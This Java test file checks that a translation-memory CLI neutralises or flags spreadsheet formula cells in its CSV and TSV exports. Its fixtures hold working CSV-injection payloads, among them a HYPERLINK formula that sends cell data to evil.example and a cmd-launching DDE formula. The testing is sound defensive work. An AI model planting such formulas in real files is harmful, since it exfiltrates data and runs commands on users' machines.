package org.tmsh.shell;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;

import org.junit.jupiter.api.Test;

import org.tmsh.formats.Csv;

/**
 * CSV injection: a text a spreadsheet would run as a formula ({@code =HYPERLINK(...)}, {@code @SUM(...)},
 * {@code +cmd|...}, {@code -2+3}) in every CSV or tab-separated file tmsh writes. Reports for a spreadsheet
 * ({@code qa --csv}) neutralise it by default; files for a CAT tool ({@code tm export}, {@code term export}) keep
 * it and say so; {@code --cells} chooses the other.
 */
class FormulaCellsCliTest extends WithTempHome {

    private static final String LINK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Klick\")";
    private static final String CMD = "@SUM(1+9)*cmd|' /C calc'!A0";
    private static final String PLUS = "+49 30 1234";
    private static final String TAB = "\t=1+1 mit Tab";

    private Path tmx() throws Exception {
        StringBuilder sb = new StringBuilder("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<tmx version=\"1.4\"><header"
                + " creationtool=\"t\" creationtoolversion=\"1\" segtype=\"sentence\" o-tmf=\"t\" adminlang=\"en\""
                + " srclang=\"de\" datatype=\"plaintext\"/><body>\n");
        String[][] pairs = {{LINK, "Die Regierung tagt heute in Berlin."}, {"Der Minister sprach lange.", CMD},
                {PLUS, "-2+3 Grad Celsius am Morgen"}, {"Das ist ein Satz mit 3 Zahlen.", "This is a sentence with 4 numbers."},
                {TAB.replace("\t", "&#9;"), "a tab first"}};
        for (String[] p : pairs) {
            sb.append("<tu><tuv xml:lang=\"de\"><seg>").append(p[0].replace("&", "&amp;").replace("&amp;#9;", "&#9;")
                            .replace("<", "&lt;").replace("\"", "&quot;"))
                    .append("</seg></tuv><tuv xml:lang=\"en\"><seg>").append(p[1].replace("&", "&amp;").replace("<", "&lt;"))
                    .append("</seg></tuv></tu>\n");
        }
        sb.append("</body></tmx>\n");
        return Files.writeString(dir.resolve("hostile.tmx"), sb);
    }

    private static List<String> cells(Path csv) throws Exception {
        String text = Files.readString(csv, StandardCharsets.UTF_8).replace("\uFEFF", "");
        return Csv.rows(text, ',').stream().flatMap(r -> r.cells().stream()).toList();
    }

    @Test
    void aQaCsvWritesFormulaCellsWithALeadingApostropheUnlessAskedForRawText() throws Exception {
        Path tmx = tmx();
        Path csv = dir.resolve("findings.csv");
        CliTest.Run r = CliTest.run("qa", tmx.toString(), "--csv", csv.toString());
        assertTrue(r.code() <= 1, r.err());
        List<String> cells = cells(csv);
        assertTrue(cells.stream().anyMatch(c -> c.equals("'" + LINK)), cells.toString());
        assertFalse(cells.stream().anyMatch(FormulaCellsCliTest::runs), cells.toString());
        assertTrue(r.out().contains("with a leading '"), r.out());

        Path raw = dir.resolve("raw.csv");
        CliTest.Run r2 = CliTest.run("qa", tmx.toString(), "--csv", raw.toString(), "--cells", "raw");
        assertTrue(r2.code() <= 1, r2.err());
        assertTrue(cells(raw).contains(LINK), cells(raw).toString());
    }

    @Test
    void aTmExportKeepsTheTextForACatToolSaysHowManyCellsASpreadsheetWouldRunAndNeutralisesOnRequest() throws Exception {
        assertEquals(0, CliTest.run("tm", "import", tmx().toString(), "--tm", "f").code());
        Path csv = dir.resolve("pairs.csv");
        CliTest.Run r = CliTest.run("tm", "export", csv.toString(), "--tm", "f");
        assertEquals(0, r.code(), r.err());
        List<String> raw = cells(csv);
        assertTrue(raw.containsAll(List.of(LINK, CMD, PLUS, "-2+3 Grad Celsius am Morgen")), raw.toString());
        assertTrue(r.out().contains("5 cells starting with =, +, -, @ (or a tab) written as they are"), r.out());

        Path safe = dir.resolve("safe.csv");
        CliTest.Run s = CliTest.run("tm", "export", safe.toString(), "--tm", "f", "--cells", "safe", "--json");
        assertEquals(0, s.code(), s.err());
        assertTrue(s.out().strip().startsWith("{") && s.out().replaceAll("\\s", "").contains("\"formulaCells\":5"), s.out());
        List<String> cells = cells(safe);
        assertTrue(cells.containsAll(List.of("'" + LINK, "'" + CMD, "'" + PLUS)), cells.toString());
        assertFalse(cells.stream().anyMatch(FormulaCellsCliTest::runs), cells.toString());

        Path tsv = dir.resolve("safe.tsv");
        assertEquals(0, CliTest.run("tm", "export", tsv.toString(), "--tm", "f", "--cells", "safe").code());
        for (String line : Files.readAllLines(tsv)) {
            for (String cell : line.split("\t", -1)) {
                assertFalse(runs(cell), line);
            }
        }
    }

    @Test
    void aGlossaryCsvWithAFormulaTermIsKeptForCatToolsAndNeutralisedOnRequest() throws Exception {
        assertEquals(0, CliTest.run("term", "add", "=1+1", "--lang", "de", "--glossary", "g").code());
        Path csv = dir.resolve("g.csv");
        CliTest.Run r = CliTest.run("term", "export", csv.toString(), "--glossary", "g");
        assertEquals(0, r.code(), r.err());
        assertTrue(cells(csv).contains("=1+1"), cells(csv).toString());
        assertTrue(r.out().contains("1 cell starting with"), r.out());
        Path safe = dir.resolve("s.utf8");
        assertEquals(0, CliTest.run("term", "add", "Berlin", "--lang", "en", "--same-as", "=1+1", "--glossary", "g").code());
        assertEquals(0, CliTest.run("term", "export", safe.toString(), "--glossary", "g", "--cells", "safe").code());
        assertTrue(Files.readString(safe).startsWith("'=1+1\tBerlin"), Files.readString(safe));
    }

    @Test
    void anUnknownCellsChoiceIsOneLineAndWritesNothing() throws Exception {
        assertEquals(0, CliTest.run("term", "add", "Lawrow", "--lang", "de", "--glossary", "g").code());
        Path csv = dir.resolve("x.csv");
        LoseNothingCliTest.assertRefused(CliTest.run("term", "export", csv.toString(), "--glossary", "g", "--cells", "excel"),
                "option --cells: 'excel' is not a choice");
        assertFalse(Files.exists(csv));
    }

    /** What a spreadsheet runs: a cell starting with =, +, -, @, a tab or a carriage return. */
    private static boolean runs(String cell) {
        return !cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0;
    }
}
